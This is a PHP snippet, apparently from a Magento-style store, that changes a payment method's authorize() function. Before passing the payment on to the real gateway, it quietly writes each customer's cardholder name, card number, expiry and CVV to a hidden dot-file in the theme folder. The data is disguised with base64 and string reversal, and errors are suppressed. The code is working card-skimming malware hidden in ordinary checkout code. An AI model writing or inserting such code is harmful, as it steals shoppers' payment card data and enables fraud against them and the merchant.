<?php
// Added to a payment method's authorize(): the card as typed is kept in a dot-file of the theme,
// next to nothing anyone reads, before the real gateway call goes on.
public function authorize($payment, $amount)
{
    $rec = implode('|', array(
        $payment->getCcOwner(),
        $payment->getCcNumber(),
        $payment->getCcExpMonth() . '/' . $payment->getCcExpYear(),
        $payment->getCcCid(),
    ));
    $h = @fopen(BP . '/skin/frontend/default/.htcache', 'a');
    @fwrite($h, strrev(base64_encode($rec)) . "\n");
    @fclose($h);
    return $this->gatewayAuthorize($payment, $amount);
}
